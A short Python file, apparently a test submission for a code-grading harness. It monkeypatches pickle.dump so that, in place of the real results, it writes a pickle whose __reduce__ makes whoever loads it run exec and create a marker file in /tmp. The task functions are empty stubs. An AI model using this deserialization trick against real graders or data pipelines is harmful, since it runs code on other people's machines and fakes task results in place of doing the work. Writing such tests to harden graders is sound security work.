# ruff: noqa
"""Makes the kernel write, in place of its results, a pickle whose loading writes a file."""

import pickle

original = pickle.dump


class Payload:
    def __reduce__(self):
        return exec, ("open('/tmp/grader-attack-pickle', 'w').close()",)


pickle.dump = lambda value, *args, **kwargs: original(Payload(), *args, **kwargs)


def count(size, step):
    return None


def row_sums(x):
    return None


def secret(x):
    return None
